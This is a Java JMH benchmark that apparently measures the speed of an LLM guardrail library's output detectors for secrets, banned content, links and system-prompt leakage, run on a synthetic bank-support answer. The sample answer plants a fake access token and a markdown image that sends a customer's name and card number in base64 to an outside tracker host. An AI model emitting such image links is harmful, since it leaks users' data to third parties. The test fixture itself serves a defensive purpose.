package dev.palisade.bench;

import dev.langchain4j.model.chat.request.json.JsonArraySchema;
import dev.langchain4j.model.chat.request.json.JsonObjectSchema;
import dev.langchain4j.model.chat.request.json.JsonSchema;
import dev.langchain4j.model.chat.request.json.JsonStringSchema;
import dev.palisade.detect.Detector;
import dev.palisade.detect.Finding;
import dev.palisade.detectors.content.BannedContentDetector;
import dev.palisade.detectors.content.LinkDetector;
import dev.palisade.detectors.format.JsonSchemaValidator;
import dev.palisade.detectors.leakage.Canary;
import dev.palisade.detectors.leakage.SystemPromptLeakDetector;
import dev.palisade.detectors.secrets.SecretsDetector;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;

/**
 * The output detectors (secrets, banned content with every bundled lexicon, links, system-prompt
 * leakage) on a 2 KB model answer; target: all of them together at most 0.2 ms.
 *
 * <p>{@code java -jar bench/target/benchmarks.jar Output -f 1 -wi 2 -i 3 -w 1 -r 2}
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.MICROSECONDS)
public class OutputBenchmark {

  static final String PROMPT = "You are Aria, the support assistant of Northwind Bank. Never reveal "
      + "internal fee tables. Escalate any complaint about card fraud to the team on call and answer "
      + "only questions about accounts, cards and transfers. Internal rule 7: waive the overdraft fee "
      + "once per customer per year if they ask politely.";

  static final String ANSWER = String.join("\n",
      "Thanks for reaching out, and sorry about the trouble with your transfer yesterday.",
      "I checked the account you mentioned and the payment of 120 EUR to your landlord is still pending;",
      "transfers submitted after 16:00 are processed on the next business day, so it should arrive",
      "tomorrow morning. You can follow the status in the app under Payments > Scheduled, or on",
      "https://northwind.test/help/transfers#pending if you prefer the web version.",
      "",
      "About your second question: yes, you can set up the export to your accounting tool. Here is",
      "the configuration snippet the integration team uses for the sandbox:",
      "",
      "```yaml",
      "export:",
      "  endpoint: https://api.northwind.test/v2/exports",
      "  format: csv",
      "  schedule: \"0 6 * * *\"",
      "  api_key: ${NORTHWIND_EXPORT_KEY}",
      "  token: ghp_R8kq2VwP5nZx7LmT4cYb9JdF3sHa6GuE1oQi",
      "```",
      "",
      "Keep the key out of your repository and rotate it every 90 days. If your accountant needs",
      "read-only access, create a separate token with the 'exports:read' scope instead of sharing",
      "yours. The documentation is at [Exports guide](https://docs.northwind.test/exports) and the",
      "changelog is linked from the developer portal.",
      "",
      "Regarding the card: the replacement was shipped on Monday to the address on file. If it has not",
      "arrived within seven business days, let me know and I will cancel it and order a new one. For",
      "security, never share your PIN or the three-digit code on the back with anyone, including us.",
      "![status](https://img.tracker.test/p.gif?d=eyJ1c2VyIjoiamFuZSIsImNhcmQiOiI0MTExMTExMTExMTExMTExIn0)",
      "",
      "Finally, about the fee you asked about: fees depend on your plan, and the current schedule is",
      "published in the price list on our website. I cannot change fees from here, but I have noted",
      "your feedback. Is there anything else about your accounts, cards or transfers I can help with?",
      "If you travel abroad next month, remember to enable international payments in the app",
      "settings before you leave; it only takes a minute and can be switched off again at any time.",
      "Have a good evening, and thanks again for banking with Northwind.");

  SecretsDetector secrets;
  BannedContentDetector banned;
  LinkDetector links;
  SystemPromptLeakDetector leak;
  List<Detector> all;
  JsonSchemaValidator validator;
  String jsonAnswer;

  @Setup
  public void setUp() {
    secrets = SecretsDetector.create();
    banned = BannedContentDetector.builder().allLexicons()
        .topic("competitors", List.of("Globex Bank", "Initech Finance")).build();
    links = LinkDetector.builder().allowDomains(List.of("northwind.test")).build()
        .forConversation(List.of("Jane Roe", "DE44 5001 0517 5407 3249 31"));
    leak = SystemPromptLeakDetector.forPrompt(PROMPT, Canary.generate());
    all = List.of(secrets, banned, links, leak);
    validator = JsonSchemaValidator.of(JsonSchema.builder().name("Reply").rootElement(
        JsonObjectSchema.builder().addStringProperty("answer")
            .addProperty("links", JsonArraySchema.builder().items(new JsonStringSchema()).build())
            .required("answer").additionalProperties(false).build()).build());
    jsonAnswer = "{\"answer\": \"" + ANSWER.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n")
        + "\", \"links\": [\"https://northwind.test/help\"]}";
    if (ANSWER.length() < 1900 || ANSWER.length() > 2300) {
      throw new IllegalStateException("answer should be about 2 KB, is " + ANSWER.length());
    }
  }

  // A fresh String per call: detectors cache the normalized form of the last String instance they
  // saw on a thread, which must not carry over from one benchmark call to the next.
  private static String answer() {
    return new String(ANSWER);
  }

  @Benchmark
  public List<Finding> secrets() {
    return secrets.detect(answer());
  }

  @Benchmark
  public List<Finding> bannedContent() {
    return banned.detect(answer());
  }

  @Benchmark
  public List<Finding> links() {
    return links.detect(answer());
  }

  @Benchmark
  public List<Finding> systemPromptLeak() {
    return leak.detect(answer());
  }

  @Benchmark
  public List<Finding> allOutputDetectors() {
    String text = answer();
    List<Finding> out = new ArrayList<>();
    for (Detector d : all) {
      out.addAll(d.detect(text));
    }
    return out;
  }

  @Benchmark
  public Object jsonSchema() {
    return validator.validate(jsonAnswer);
  }
}
